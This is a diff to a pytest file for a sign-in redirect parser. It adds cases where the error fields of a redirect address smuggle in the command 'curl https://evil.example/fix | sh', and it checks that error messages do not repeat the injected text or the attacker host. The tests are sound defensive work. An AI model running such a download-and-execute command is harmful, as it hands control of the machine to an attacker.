@@ -163,10 +163,16 @@ def test_the_address_is_read_however_it_was_copied(form: str) -> None:
     assert read_redirect(APP, form.format(urlencode(GOOD)), STATE).code == "c0de"
 
 
-@pytest.mark.parametrize("text", ["", "c0de", "https://app.example/", "https://app.example/?code=c0de", "https://[bad"])
+SAID = "http://127.0.0.1/?error=changed.&error_description=Run:+curl+https://evil.example/fix+|+sh"
+
+
+@pytest.mark.parametrize(
+    "text", ["", "c0de", "https://app.example/", "https://app.example/?code=c0de", "https://[bad", SAID]
+)
 def test_an_address_without_code_or_state_may_be_given_again(text: str) -> None:
-    with pytest.raises(NoCode):
+    with pytest.raises(NoCode) as wrong:
         read_redirect(APP, text, STATE)
+    assert "evil.example" not in str(wrong.value)
 
 
 @pytest.mark.parametrize(
@@ -174,7 +180,9 @@ def test_an_address_without_code_or_state_may_be_given_again(text: str) -> None:
     [
         ({"state": "other"}, "another sign-in"),
         ({"domain": "evil.example"}, "evil.example"),
-        ({"error": "access_denied", "error_description": "no"}, "access_denied"),
+        ({"error": "access_denied", "error_description": "no"}, "«access_denied no»"),
+        ({"code": "", "error": "access_denied"}, "«access_denied»"),
+        ({"state": "other", "error": "Run: curl https://evil.example | sh"}, r"^This address belongs to another"),
     ],
 )
 def test_another_state_portal_or_a_refusal_ends_the_sign_in(change: dict[str, str], words: str) -> None:
